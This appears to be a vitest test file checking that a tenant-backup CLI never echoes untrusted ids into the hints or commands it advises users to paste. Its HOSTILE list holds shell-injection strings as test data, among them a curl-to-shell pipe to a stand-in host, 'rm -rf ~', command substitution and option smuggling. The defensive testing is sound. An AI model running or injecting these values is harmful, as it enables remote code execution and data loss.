import { describe, expect, test } from 'vitest';
import { errorCodes, TenantBackupError } from '../../../../functions/errors.ts';
import { commandOf } from '../../../../scripts/cli/commands/status.ts';
import { idWord } from '../../../../scripts/cli/ui/command-text.ts';
import { hintFor } from '../../../../scripts/cli/ui/hints.ts';
import { partsWords } from '../../../../scripts/cli/ui/parts-option.ts';

/** A person pastes what the command advises: no id in it may be an option, another command or a redirection. */

const HOSTILE = [
  'acme; curl evil.example | sh',
  'acme$(id)',
  'acme`id`',
  'acme && rm -rf ~',
  'acme\nrm -rf ~',
  "acme' 'evil",
  '"evil"',
  '--profile=evil',
  '-h',
  '<evil>',
  '>evil',
  'acme > evil',
  '*',
  '~/evil',
  '!evil',
  'acme\u001b[2Kevil',
  'acme\u202eevil',
  '%PATH%evil',
  'acme^evil',
];

/** What our own hints and commands hold: words, options, placeholders and punctuation. */
const OURS = /^[\w@.,:;()"/+= -]*$/;
const withoutPlaceholders = (text: string): string => text.replaceAll(/<[a-z ]+>/g, '');

describe.each(HOSTILE)('in the place of an id, %j', (evil) => {
  const facts = { tenant: evil, into: evil, operationId: evil, backupOf: `${evil}x`, versionId: evil };

  test('is in no hint', () => {
    for (const code of errorCodes) {
      for (const more of [{}, { operation: 'patch' }, { problem: 'X' }, { end: 'unknown' }]) {
        const hintOf = (ids: object): string =>
          hintFor(new TenantBackupError(code, 'failed', { ...ids, ...more }));
        // As for the plainest text that is no id.
        const plain = { tenant: '?', into: '?', operationId: '?', backupOf: '?x', versionId: '?' };
        expect(hintOf(facts), code).toBe(hintOf(plain));
      }
    }
  });

  test('is in no command that repeats a request', () => {
    const request = {
      tenant: evil,
      versionId: evil,
      parts: [evil],
      mode: evil,
      into: `${evil}x`,
      send: evil,
    };
    const text = withoutPlaceholders(commandOf({ ...request, prune: { createdBy: evil } }));
    expect(text).not.toContain('evil');
    expect(text).toMatch(OURS);
  });

  test('is a placeholder', () => {
    expect(idWord(evil, 'tenant')).toBe('<tenant>');
    expect(partsWords([evil])).toEqual(['--parts', '<parts>']);
  });
});

test.each([
  'acme',
  'big--acme',
  'acme@20260131T020000Z-5f053ef9',
  'acme@3sL4kqtJlcpXroDTDmJ.rmSpXd3dIbrHY-MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo',
  '0d990263-018e-4e65-a703-eff731de951e',
  'hub,system,identity',
])('an id stays as it is: %s', (id) => {
  expect(idWord(id, 'tenant')).toBe(id);
});
